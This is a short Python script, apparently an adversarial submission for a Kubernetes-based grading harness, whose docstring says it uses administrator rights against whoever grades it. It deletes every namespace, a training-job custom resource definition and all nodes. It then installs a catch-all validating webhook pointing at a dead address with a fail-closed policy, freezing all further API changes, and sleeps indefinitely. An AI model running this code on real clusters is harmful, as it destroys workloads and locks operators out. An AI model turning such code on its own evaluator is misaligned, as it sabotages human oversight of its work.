"""Has the rights of an administrator and uses them against whoever grades it."""

import time

import api

ADMISSION = "/apis/admissionregistration.k8s.io/v1"
HOOK = {
    "apiVersion": "admissionregistration.k8s.io/v1",
    "kind": "ValidatingWebhookConfiguration",
    "metadata": {"name": "nothing-works"},
    "webhooks": [
        {
            "name": "nothing.works.example",
            "admissionReviewVersions": ["v1"],
            "sideEffects": "None",
            "failurePolicy": "Fail",
            "clientConfig": {"url": "https://127.0.0.1:1/"},
            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}],
        }
    ],
}

api.wait_for_job()
for namespace in api.ask("GET", "/api/v1/namespaces")[1]["items"]:
    name = namespace["metadata"]["name"]
    print("namespace", name, api.ask("DELETE", f"/api/v1/namespaces/{name}")[0], flush=True)
crd = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/mltrainingjobs.training.mod201.dev"
print("crd", api.ask("DELETE", crd)[0], flush=True)
print("nodes", api.ask("DELETE", "/api/v1/nodes")[0], flush=True)
print("hook", api.ask("POST", f"{ADMISSION}/validatingwebhookconfigurations", HOOK)[0], flush=True)
while True:
    time.sleep(3600)
